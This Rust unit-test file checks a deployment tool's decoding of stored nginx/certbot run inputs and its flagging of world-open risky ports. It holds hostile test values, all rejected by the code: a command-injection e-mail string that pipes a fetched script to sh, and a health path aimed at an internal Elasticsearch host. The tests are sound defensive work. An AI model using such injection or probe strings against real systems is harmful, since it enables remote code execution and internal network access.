//! Unit tests of the free path's pure parts: the stored input and the risky-port words.

use super::*;
use crate::ports::IngressRule;
use lockstep_domain::UserError;

fn rule(protocol: &str, from: i32, to: i32, cidr: &str) -> IngressRule {
    IngressRule {
        group_id: "sg-1".into(),
        protocol: protocol.into(),
        from_port: from,
        to_port: to,
        cidrs: vec![cidr.into()],
        source_groups: vec![],
    }
}

fn stored_input() -> serde_json::Value {
    let input = NginxInput {
        region: Region::parse("ap-northeast-2").unwrap(),
        instance_id: Some(InstanceId::parse("i-0123456789abcdef0").unwrap()),
        public_ip: Ipv4Addr::new(54, 180, 1, 2),
        app_port: 8000,
        health_path: HealthPath::parse("/health").unwrap(),
        api: DomainName::parse("api.team.com").unwrap(),
        zone_id: Some(ZoneId::parse("Z0123456789ABC").unwrap()),
        os: Os::Ubuntu,
        staging: false,
        email: Email::parse("kim@example.com").unwrap(),
        http_port: 80,
        https_port: 443,
    };
    serde_json::to_value(&input).unwrap()
}

fn fatal(r: Result<NginxInput, StepError>) -> UserError {
    match r {
        Err(StepError::Fatal(e)) => e,
        other => panic!("expected a fatal error, got {other:?}"),
    }
}

/// Issue 19: a run stored before the e-mail was typed, holding the finding's address, stops
/// with the field's message instead of sending `certbot -m a@b.co;curl...` to the instance.
#[test]
fn a_stored_run_with_an_unsafe_email_or_health_path_fails_clearly() {
    let good = stored_input();
    assert_eq!(good["email"], "kim@example.com", "stored as the plain string, as before");
    assert_eq!(good["instance_id"], "i-0123456789abcdef0", "ids too");
    assert_eq!(good["zone_id"], "Z0123456789ABC");
    let inp = decode_input(&good).unwrap();
    assert!(inp.script().unwrap().contains("-m 'kim@example.com' --agree-tos"));

    let mut old = good.clone();
    old["email"] = "a@b.co;curl${IFS}x.sh|sh".into();
    let e = fatal(decode_input(&old));
    assert!(e.what.contains("e-mail address stored with this run") && e.what.contains("nothing was sent"), "{e:?}");
    assert!(e.why.contains("cannot contain \";\""), "{e:?}");
    let ko = e.ko.as_deref().expect("Korean");
    assert!(ko.what.contains("이메일 주소") && ko.why.contains("이메일 주소에는"), "{e:?}");

    let mut old = good.clone();
    old["health_path"] = "//10.0.0.5:9200/_cat".into();
    let e = fatal(decode_input(&old));
    assert!(e.what.contains("health path") && e.why.contains("two slashes"), "{e:?}");

    let mut broken = good;
    broken["os"] = "windows".into();
    assert!(fatal(decode_input(&broken)).what.contains("cannot read this run's settings"));
}

/// The steps receive the input through [`RunInput`]: the field's refusal reaches the step as
/// its error (not the engine's generic one), and a good input decodes.
#[test]
fn the_steps_get_the_field_refusal_through_their_typed_input() {
    let good = stored_input();
    let inp = serde_json::from_value::<RunInput>(good.clone()).unwrap().get().unwrap();
    assert_eq!(inp.instance_id.as_ref().map(InstanceId::as_str), Some("i-0123456789abcdef0"));
    let mut old = good;
    old["email"] = "a@b.co;curl${IFS}x.sh|sh".into();
    let e = fatal(serde_json::from_value::<RunInput>(old).unwrap().get());
    assert!(e.what.contains("e-mail address"), "{e:?}");
}

/// Outputs stored before the steps were typed read back as their types.
#[test]
fn outputs_stored_before_the_types_decode() {
    let ports: OpenPortsOutput =
        serde_json::from_value(serde_json::json!({ "group": null, "opened": [], "risks": [] })).unwrap();
    assert!(ports.group.is_none() && ports.created.is_empty());
    let ports: OpenPortsOutput = serde_json::from_value(serde_json::json!({
        "group": "sg-0abc1234", "opened": [80], "risks": ["x"],
        "created": [{ "kind": "sg_rule", "id": "sg-0abc1234:tcp:80:from:world", "region": "ap-northeast-2" }]
    }))
    .unwrap();
    assert_eq!(ports.created[0].kind, lockstep_domain::ledger::ResourceKind::SgRule);
    let record: DnsRecordOutput = serde_json::from_value(serde_json::json!({ "record": null })).unwrap();
    assert!(record.record.is_none() && record.created.is_empty());
    let manual: InstallOutput = serde_json::from_value(serde_json::json!({ "mode": "manual" })).unwrap();
    assert_eq!(manual.mode, InstallMode::Manual);
    assert_eq!(serde_json::to_value(&manual).unwrap(), serde_json::json!({ "mode": "manual" }));
}

#[test]
fn world_open_ssh_databases_and_the_app_port_are_named() {
    let rules = vec![
        rule("tcp", 22, 22, "0.0.0.0/0"),
        rule("tcp", 3306, 3306, "::/0"),
        rule("tcp", 8080, 8080, "0.0.0.0/0"),
        rule("tcp", 5432, 5432, "10.0.0.0/16"),
    ];
    let r = risks(&rules, Some(8080));
    assert_eq!(r.len(), 3, "{r:?}");
    assert!(r.iter().any(|l| l.en.contains("port 22 (SSH)") && l.ko.contains("포트 22(SSH)")));
    assert!(r.iter().any(|l| l.en.contains("3306")));
    assert!(r.iter().any(|l| l.en.contains("app port 8080") && l.ko.contains("앱 포트 8080")));
    assert!(risks(&[rule("tcp", 443, 443, "0.0.0.0/0")], Some(8080)).is_empty());
    assert!(risks(&[rule("-1", -1, -1, "0.0.0.0/0")], None)[0].en.contains("ALL traffic"));
}
